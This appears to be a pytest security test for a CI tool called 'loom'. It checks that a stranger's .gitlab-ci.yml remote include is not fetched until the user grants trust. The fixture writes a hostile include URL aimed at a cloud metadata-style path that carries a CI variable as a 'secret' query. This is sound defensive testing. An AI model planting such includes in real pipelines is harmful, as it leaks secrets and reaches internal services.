"""A stranger's `.gitlab-ci.yml` names files of other servers: loom connects to none that the user has not allowed."""

from __future__ import annotations

import json

import pytest

from .conftest import Listener, Victim

pytestmark = pytest.mark.slow


@pytest.fixture
def including(victim: Victim, listener: Listener) -> str:
    """The address that the clone's file includes."""
    (victim.root / ".loom/workflow.yml").unlink(missing_ok=True)
    url = f"{listener.address.replace('tcp:', 'http:')}/latest/meta-data?secret=$CI_COMMIT_SHA"
    (victim.root / ".gitlab-ci.yml").write_text(f"include:\n  - remote: {url}\njob: {{script: echo}}\n")
    victim.git("remote", "set-url", "origin", "https://git.example.invalid/group/project.git")
    victim.git("add", "-A")
    victim.git("commit", "-q", "-m", "a change")
    return url.partition("?")[0]


def test_no_command_connects_to_a_server_that_the_file_names(
    victim: Victim, listener: Listener, including: str
) -> None:
    for command in ("check", "compile", "import", "run", "run --dry-run", "images ls"):
        done = victim.loom(*command.split())
        assert done.returncode == 2, command
        assert f"include:remote: {including}" in done.stdout + done.stderr
        assert "before you allow it: `loom trust`" in done.stdout + done.stderr
    [request] = json.loads(victim.loom("trust", "--json").stdout)["requests"]
    assert (request["kind"], request["allowed"]) == ("include", False)
    assert request["subject"].startswith(including)
    assert listener.connections == []


def test_an_allowed_address_is_fetched_and_another_one_is_not(
    victim: Victim, listener: Listener, including: str
) -> None:
    assert "NEW" in victim.loom("trust").stdout
    assert listener.connections == []
    victim.loom("trust", "--yes")
    assert victim.loom("check").returncode == 2  # this server answers nothing
    assert [request.partition(b" ")[0] for request in listener.connections][-1:] == [b"GET"]
    asked = len(listener.connections)
    path = victim.root / ".gitlab-ci.yml"
    path.write_text(path.read_text().replace("latest", "other"))
    assert "before you allow it" in victim.loom("check").stdout
    assert len(listener.connections) == asked


def test_the_users_word_for_one_time_is_not_recorded(victim: Victim, listener: Listener, including: str) -> None:
    victim.loom("check", LOOM_TRUST="1")
    asked = len(listener.connections)
    assert asked
    assert f"{including}" in victim.loom("check").stdout
    assert len(listener.connections) == asked
